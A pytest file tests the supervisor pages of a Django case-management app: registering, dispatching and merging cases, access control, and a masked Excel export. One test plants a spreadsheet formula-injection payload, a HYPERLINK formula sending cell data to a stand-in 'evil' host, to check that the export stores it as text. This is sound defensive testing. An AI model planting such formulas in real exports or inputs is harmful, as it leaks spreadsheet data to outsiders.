"""The supervisor's pages: register/reject, dispatch and reassign, merge, moderate, the
escalation queue, the filtered list and its Excel export."""

import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from feedback import services
from feedback.escalation import escalate_overdue
from feedback.models import Case, CaseEntry, CaseState
from tests.feedback.flows import dispatched, registered, reported

SUPERVISE = reverse("feedback:supervise")
EXPORT = reverse("feedback:export")


@pytest.fixture
def supervisor(client, people):
    client.force_login(people["supervisor"])
    return people["supervisor"]


def detail(client, case) -> str:
    return client.get(reverse("feedback:detail", args=[case.pk])).text


def test_the_queue_shows_reports_to_register_and_cases_to_dispatch(
    client, supervisor, people, categories
):
    new = reported(people, categories)
    waiting = registered(people, categories)
    response = client.get(reverse("feedback:queue"))
    reported_part, registered_part = response.text.split('id="queue-registered"')
    assert new.number in reported_part and waiting.number in registered_part


def test_supervisor_registers_a_report(client, supervisor, people, categories):
    case = reported(people, categories)
    assert 'id="action-register"' in detail(client, case)
    response = client.post(reverse("feedback:register", args=[case.pk]), {"note": ""})
    assert response.status_code == 302
    assert Case.objects.get(pk=case.pk).state == CaseState.REGISTERED


def test_rejecting_needs_a_reason_and_keeps_the_page(client, supervisor, people, categories):
    case = reported(people, categories)
    url = reverse("feedback:reject", args=[case.pk])
    assert client.post(url, {"reason": "  "}).status_code == 422
    response = client.post(url, {"reason": "不属于受理范围"})
    assert response.status_code == 302
    assert Case.objects.get(pk=case.pk).state == CaseState.REJECTED


def test_the_dispatch_form_preselects_the_routed_department(
    client, supervisor, people, categories, departments
):
    case = registered(people, categories, category="manhole")  # routed to 住建局
    text = detail(client, case)
    housing = departments["housing"]
    assert f'<option value="{housing.pk}" selected>住建局</option>' in text


def test_supervisor_dispatches_to_a_chosen_department_and_person(
    client, supervisor, people, categories, departments
):
    case = registered(people, categories)
    response = client.post(
        reverse("feedback:dispatch", args=[case.pk]),
        {"department": departments["city"].pk, "assignee": people["handler"].pk, "note": "请速办"},
    )
    assert response.status_code == 302
    case.refresh_from_db()
    assert case.state == CaseState.DISPATCHED
    assert case.department == departments["city"] and case.assignee == people["handler"]


def test_an_assignee_outside_the_department_is_refused_inline(
    client, supervisor, people, categories, departments
):
    case = registered(people, categories)
    response = client.post(
        reverse("feedback:dispatch", args=[case.pk]),
        {"department": departments["city"].pk, "assignee": people["other_handler"].pk},
    )
    assert response.status_code == 422
    assert "承办人不属于所选部门" in response.text


def test_a_sent_back_case_is_reassigned_with_the_reason_in_view(
    client, supervisor, people, categories, departments
):
    case = dispatched(people, categories)
    services.case_send_back(actor=people["handler"], case_id=case.pk, reason="应由住建局处理")
    text = detail(client, case)
    assert "部门退回理由：应由住建局处理" in text and 'id="action-dispatch"' in text
    response = client.post(
        reverse("feedback:dispatch", args=[case.pk]), {"department": departments["housing"].pk}
    )
    assert response.status_code == 302
    assert Case.objects.get(pk=case.pk).department == departments["housing"]


def test_a_duplicate_is_merged_into_a_listed_candidate(client, supervisor, people, categories):
    master = registered(people, categories)
    duplicate = reported(people, categories, reporter="other_resident")
    text = detail(client, duplicate)
    assert f'value="{master.pk}"' in text and master.number in text
    response = client.post(reverse("feedback:merge", args=[duplicate.pk]), {"master": master.pk})
    assert response.status_code == 302
    duplicate.refresh_from_db()
    assert duplicate.state == CaseState.MERGED and duplicate.master == master
    assert master.followers.filter(user=people["other_resident"]).exists()


def test_hiding_and_showing_again_are_timeline_entries_with_reasons(
    client, supervisor, people, categories
):
    case = reported(people, categories)
    url = reverse("feedback:hide", args=[case.pk])
    assert client.post(url, {"hidden": "1", "reason": ""}).status_code == 422
    client.post(url, {"hidden": "1", "reason": "含住户电话"})
    assert Case.objects.get(pk=case.pk).hidden
    client.post(url, {"hidden": "0", "reason": "已核实可公开"})
    assert not Case.objects.get(pk=case.pk).hidden
    notes = list(CaseEntry.objects.filter(case=case).values_list("action", "note"))
    assert ("hide", "含住户电话") in notes and ("unhide", "已核实可公开") in notes


def test_the_reporter_is_known_to_the_supervisor_even_when_anonymous(
    client, supervisor, people, categories
):
    people["resident"].display_name = "王小明"
    people["resident"].save(update_fields=["display_name"])
    case = reported(people, categories, anonymous=True)
    text = detail(client, case)
    assert "王小明" in text and "匿名，仅指挥中心可见" in text


def test_a_supervisor_of_a_neighbouring_street_gets_404(client, people, categories):
    case = reported(people, categories)
    client.force_login(people["neighbour_supervisor"])
    assert client.get(reverse("feedback:detail", args=[case.pk])).status_code == 404
    assert client.post(reverse("feedback:register", args=[case.pk])).status_code == 404
    assert case.number not in client.get(SUPERVISE).text
    assert Case.objects.get(pk=case.pk).state == CaseState.REPORTED


def test_residents_and_handlers_may_not_open_the_supervisor_pages(client, people):
    for role in ("resident", "handler", "worker"):
        client.force_login(people[role])
        for name in ("feedback:supervise", "feedback:export", "feedback:queue"):
            response = client.get(reverse(name))
            assert response.status_code == 403, (role, name)
            assert "您的角色不能使用此页面" in response.text


def test_a_resident_may_not_register_even_their_own_report(client, people, categories):
    case = reported(people, categories)
    client.force_login(people["resident"])
    assert client.post(reverse("feedback:register", args=[case.pk])).status_code == 403
    assert Case.objects.get(pk=case.pk).state == CaseState.REPORTED


def test_the_escalation_queue_lists_escalated_cases(client, supervisor, people, categories):
    late = dispatched(people, categories)
    on_time = dispatched(people, categories)
    Case.objects.filter(pk=late.pk).update(due_at=timezone.now() - dt.timedelta(days=2))
    escalate_overdue()
    text = client.get(reverse("feedback:escalations")).text
    assert late.number in text and on_time.number not in text and "督办 1 次" in text


@pytest.fixture
def mixed_cases(people, categories):
    """A reported stall, and a registered manhole that is overdue."""
    stall = reported(people, categories)
    manhole = registered(people, categories, category="manhole")
    Case.objects.filter(pk=manhole.pk).update(due_at=timezone.now() - dt.timedelta(hours=5))
    return {"stall": stall, "manhole": manhole}


def test_the_list_filters_by_state_category_and_overdue(client, supervisor, mixed_cases):
    stall, manhole = mixed_cases["stall"], mixed_cases["manhole"]
    by_state = client.get(SUPERVISE, {"state": "registered"}).text
    assert manhole.number in by_state and stall.number not in by_state
    by_category = client.get(SUPERVISE, {"category": "13"}).text
    assert stall.number in by_category and manhole.number not in by_category
    overdue = client.get(SUPERVISE, {"overdue": "1"}).text
    assert manhole.number in overdue and stall.number not in overdue


def test_a_filter_outside_the_scope_is_ignored_not_obeyed(client, supervisor, mixed_cases):
    response = client.get(SUPERVISE, {"area": "310101002"})
    assert response.status_code == 200
    assert mixed_cases["stall"].number in response.text


def export_rows(response) -> list[tuple]:
    book = load_workbook(io.BytesIO(response.content), read_only=True)
    return list(book.active.iter_rows(values_only=True))


def test_the_export_keeps_the_filters_of_the_list(client, supervisor, mixed_cases):
    # given the list filtered to overdue cases, and its export link
    page = client.get(SUPERVISE, {"overdue": "1", "category": "02"})
    assert f'href="{EXPORT}?overdue=1&amp;category=02"' in page.text
    # when
    response = client.get(EXPORT, {"overdue": "1", "category": "02"})
    # then
    rows = export_rows(response)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert rows[0][:4] == ("编号", "类别编码", "类别", "状态")
    assert [row[0] for row in rows[1:]] == [mixed_cases["manhole"].number]
    assert rows[1][13] == "是"


def test_the_export_leaves_out_the_reporter_and_masks_numbers_in_the_text(
    client, supervisor, people, categories
):
    people["resident"].display_name = "王小明"
    people["resident"].save(update_fields=["display_name"])
    case = reported(people, categories)
    Case.objects.filter(pk=case.pk).update(
        description="联系 13812345678，身份证 310101198001010012", reporter_name="王小明"
    )
    rows = export_rows(client.get(EXPORT))
    flat = " ".join(str(value) for row in rows for value in row)
    assert "王小明" not in flat and "13812345678" not in flat
    assert "138****5678" in flat and "310101********0012" in flat


def test_the_export_of_a_street_holds_no_case_of_the_next_street(client, people, categories):
    reported(people, categories)
    client.force_login(people["neighbour_supervisor"])
    rows = export_rows(client.get(EXPORT))
    assert len(rows) == 1 and rows[0][0] == "编号"


def test_text_that_looks_like_a_formula_is_exported_as_plain_text(
    client, supervisor, people, categories
):
    # given a report whose description and address are spreadsheet formulas
    formula = '=HYPERLINK("http://evil/?"&A1,"x")'
    case = reported(people, categories)
    Case.objects.filter(pk=case.pk).update(description=formula, address="@SUM(1+1)")
    # when
    book = load_workbook(io.BytesIO(client.get(EXPORT).content))
    row = next(r for r in book.active.iter_rows(min_row=2) if r[0].value == case.number)
    address, description = row[8], row[9]
    # then Excel stores text, shown as typed, that stays text when the cell is edited
    assert description.data_type == "s" and description.value == formula
    assert address.data_type == "s" and address.value == "@SUM(1+1)"
    assert description.quotePrefix and address.quotePrefix
